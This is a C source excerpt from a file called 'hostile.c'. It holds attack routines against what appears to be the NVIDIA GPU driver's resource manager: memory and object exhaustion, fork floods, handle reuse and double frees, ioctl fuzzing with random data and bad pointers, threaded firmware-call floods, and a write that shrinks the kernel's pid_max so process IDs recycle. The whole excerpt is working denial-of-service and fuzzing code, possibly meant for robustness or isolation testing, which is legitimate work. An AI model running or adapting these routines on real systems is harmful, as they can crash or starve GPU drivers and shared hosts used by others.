/* Too much of everything; a part of hostile.c. */

/* together PROCESSES MIB: all take at once and keep it. */
static void attack_together(char **a) {
    uint64_t count = number(a, 0, 32), piece = number(a, 1, 16);
    int go[2], told[2];
    if (pipe(go) || pipe(told)) die("pipe");
    for (uint64_t i = 0; i < count; i++) {
        if (fork() == 0) {
            char byte;
            close(go[1]);
            struct session s = begin();
            write(told[1], "", 1);
            read(go[0], &byte, 1);
            long last;
            uint64_t got = fill(&s, piece * MIB, &last);
            write(told[1], &got, sizeof got);
            for (;;) pause();
        }
    }
    char byte;
    for (uint64_t i = 0; i < count; i++) read(told[0], &byte, 1);
    close(go[1]);
    uint64_t sum = 0, got;
    for (uint64_t i = 0; i < count; i++) {
        read(told[0], &got, sizeof got);
        sum += got;
    }
    say("got", sum);
    for (;;) pause();
}
/* forks SECONDS: children take memory and die, as fast as they can be made; exec ones too. */
static void attack_forks(char **a) {
    double end = now() + number(a, 0, 3);
    long children = 0;
    while (now() < end) {
        for (int i = 0; i < 8; i++, children++) {
            pid_t pid = fork();
            if (pid < 0) break;
            if (pid == 0) {
                if (i & 1) execl("/proc/self/exe", "hostile", "step", "64", (char *)NULL);
                struct session s = begin();
                uint64_t size = 64 * MIB;
                uint32_t handle = 0;
                memory(&s, &size, &handle);
                kill(getpid(), i & 2 ? SIGKILL : SIGTERM);
            }
        }
        while (waitpid(-1, NULL, 0) > 0) {}
    }
    say("children", children);
}
/* tiny COUNT: as many of the smallest pieces as there are, and then some times more. */
static void attack_tiny(char **a) {
    struct session s = begin();
    uint64_t limit = number(a, 0, 1000000), count = 0, sum = 0, more = 0;
    uint32_t last = 0;
    long status = 0;
    for (; count < limit; count++) {
        uint64_t size = 1;
        uint32_t handle = 0;
        if ((status = memory(&s, &size, &handle))) break;
        sum += size;
        last = handle;
        if (count % 4096 == 4095) printf("so far %llu\n", (unsigned long long)count + 1);
    }
    for (int i = 0; i < 20; i++) {
        uint64_t size = 1;
        uint32_t handle = 0;
        more += memory(&s, &size, &handle) == 0;
    }
    say("more", more);
    /* One goes, and one comes. */
    uint64_t size = 1;
    uint32_t handle = 0;
    rm_free(s.control, s.client, last);
    say("again", memory(&s, &size, &handle));
    say("count", count);
    say("got", sum);
    say("status", status);
    for (;;) pause();
}
/* objects CLASS: as many as there are of what has hidden memory. */
static void attack_objects(char **a) {
    struct session s = begin();
    uint32_t class = number(a, 0, 0xa06c);
    uint64_t count = 0;
    long status;
    for (;; count++) {
        uint32_t params[92] = {0}, handle = 0;
        if (class == 0xa06c) params[3] = 1;
        status = rm_alloc(s.control, s.client, s.device, &handle, class, params, class == 0xa06c ? 20 : 56);
        if (status || count == 100000) break;
    }
    say("count", count);
    say("status", status);
    for (;;) pause();
}
/* The same number for one object after the other, freed in every way. */
static void attack_handles(char **a) {
    struct session s = begin();
    uint64_t rounds = number(a, 0, 500);
    long twice = 0;
    for (uint64_t i = 0; i < rounds; i++) {
        struct memory_params params = {.owner = s.client, .size = 64 * MIB};
        uint32_t handle = 0xcafe0001, same = 0xcafe0001;
        if (rm_alloc(s.control, s.client, s.device, &handle, 0x40, &params, sizeof params)) continue;
        params.size = 64 * MIB;
        if (rm_alloc(s.control, s.client, s.device, &same, 0x40, &params, sizeof params) == 0) twice++;
        rm_free(s.control, s.client, i % 3 == 0 ? 0xcafe0001 : i % 3 == 1 ? s.device : s.client);
        rm_free(s.control, s.client, 0xcafe0001);
        if (i % 3 == 1) {
            uint32_t device[14] = {0};
            s.device = 0;
            rm_alloc(s.control, s.client, s.client, &s.device, 0x80, device, sizeof device);
        } else if (i % 3 == 2) {
            begin_on(&s, s.control, s.card);
        }
    }
    say("twice", twice);
    uint64_t size = 64 * MIB;
    uint32_t handle = 0;
    say("status", memory(&s, &size, &handle));
    say("holds", size);
    for (;;) pause();
}
static uint64_t seed = 88172645463325252ull;
static uint32_t chance(void) {
    seed ^= seed << 13, seed ^= seed >> 7, seed ^= seed << 17;
    return seed >> 16;
}
/* garbage ROUNDS SEED: every command with any bytes, pointers to nowhere and to itself among them. */
static void attack_garbage(char **a) {
    struct session s = begin();
    uint64_t rounds = number(a, 0, 20000);
    seed = number(a, 1, 1) * 2654435761u | 1;
    int fds[3] = {s.control, s.card, open("/dev/nvidia-uvm", O_RDWR | O_CLOEXEC)};
    static const uint8_t numbers[] = {0x27, 0x28, 0x29, 0x2a, 0x2b, 0x34, 0x35, 0x41, 0x4a, 0x4d, 0x4e, 0x4f, 0x52, 0x54, 0x57, 0x58, 0x59, 0x5c, 0x5d, 0x5e, 0xc8, 0xc9, 0xce, 0xcf, 0xd1, 0xd2, 0xd3, 0xd4, 0xd5, 0xd6, 0xd7, 0xd9, 0xda};
    static const uint16_t sizes[] = {0, 4, 8, 16, 20, 24, 28, 32, 40, 48, 56, 64, 72, 184, 2608};
    static uint64_t bytes[2048];
    uint32_t known[] = {s.client, s.device, s.subdevice, 0, 0x40, 0x41, 0x80, 0x2080, 0x20801303, 0x3d05, 0xffffffff};
    for (uint64_t i = 0; i < rounds; i++) {
        uint32_t *words = (uint32_t *)bytes;
        for (int w = 0; w < 1024; w++) words[w] = chance() & 1 ? known[chance() % 11] : chance() & 1 ? chance() : 0;
        if (chance() & 1) bytes[2] = (uintptr_t)(chance() & 1 ? bytes : bytes + 512);
        int fd = fds[chance() % 3];
        unsigned long command = fd == fds[2] && chance() & 3 ? 23 + chance() % 70 : _IOC(3, 'F', numbers[chance() % sizeof numbers], sizes[chance() % 15]);
        ioctl(fd, command, chance() % 64 ? (void *)bytes : (void *)(uintptr_t)chance());
    }
    say("done", rounds);
    struct session fresh = begin();
    uint64_t size = 1 * MIB;
    uint32_t handle = 0;
    say("status", memory(&fresh, &size, &handle));
}
static uint64_t flood_size = 2 * MIB;
static void *flood(void *session) {
    struct session *s = session;
    long calls = 0;
    while (!atomic_load(&stop)) {
        uint64_t size = flood_size;
        uint32_t handle = 0;
        if (memory(s, &size, &handle) == 0) rm_free(s->control, s->client, handle);
        calls += 2;
    }
    return (void *)calls;
}
/* NV2080_CTRL_CMD_PERF_GET_GPUMON_PERFMON_UTIL_SAMPLES_V2 (55888 bytes in 580): the firmware answers, in 1.6 ms. */
static void *flood_firmware(void *session) {
    struct session *s = session;
    uint8_t *samples = calloc(1, 55888);
    long calls = 0;
    while (!atomic_load(&stop)) calls += rm_control(s->control, s->client, s->subdevice, 0x20802096, samples, 55888) == 0;
    free(samples);
    return (void *)calls;
}
static void flood_by(void *(*by)(void *), uint64_t seconds, uint64_t count) {
    struct session s = begin();
    pthread_t threads[256];
    for (uint64_t i = 0; i < count && i < 256; i++) pthread_create(&threads[i], NULL, by, &s);
    say("flooding", count);
    sleep(seconds);
    atomic_store(&stop, 1);
    long calls = 0;
    for (uint64_t i = 0; i < count && i < 256; i++) {
        void *made;
        pthread_join(threads[i], &made);
        calls += (long)made;
    }
    say("calls", calls);
}
/* flood SECONDS THREADS [MIB]: pieces of so much memory, taken and freed without end. */
static void attack_flood(char **a) {
    flood_size = number(a, 2, 2) * MIB;
    flood_by(flood, number(a, 0, 3), number(a, 1, 16));
}
/* flood-firmware SECONDS THREADS: calls that succeed and that the card's firmware answers. */
static void attack_flood_firmware(char **a) { flood_by(flood_firmware, number(a, 0, 3), number(a, 1, 8)); }
/* recycled COUNT: processes that take memory and die; pids are few, so that they come again. */
static void attack_recycled(char **a) {
    uint64_t count = number(a, 0, 600);
    int fd = open("/proc/sys/kernel/pid_max", O_WRONLY);
    say("pid_max", fd >= 0 && write(fd, "310", 3) == 3 ? 0 : -errno);
    long again = 0;
    char seen[100000] = {0};
    for (uint64_t i = 0; i < count; i++) {
        pid_t pid = fork();
        if (pid == 0) {
            struct session s = begin();
            uint64_t size = 64 * MIB;
            uint32_t handle = 0;
            memory(&s, &size, &handle);
            _exit(0);
        }
        if (pid > 0 && pid < 100000) again += seen[pid]++ > 0;
        while (waitpid(-1, NULL, 0) > 0) {}
    }
    say("again", again);
    attack_fill((char *[]){"64", NULL});
}
